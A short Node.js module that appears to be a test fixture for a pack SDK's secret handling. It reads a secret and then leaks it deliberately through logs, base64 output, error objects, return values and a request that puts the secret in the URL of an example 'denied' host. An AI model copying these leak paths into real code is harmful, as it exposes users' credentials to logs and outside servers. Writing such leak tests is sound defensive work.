// The same from Node.
import { call, get, getSecret } from "@rumi/pack-sdk";

export async function run(input) {
  const value = await getSecret(input.key);
  console.log(value, { value }, Buffer.from(value).toString("base64"));
  console.error(new Error(value));
  await call(value, { [value]: value });
  await get(`https://denied.rumi.example/${encodeURIComponent(value)}`);
  if (input.how === "raise") throw new Error(value, { cause: new Error(value) });
  return { value, nested: [{ [value]: value }] };
}
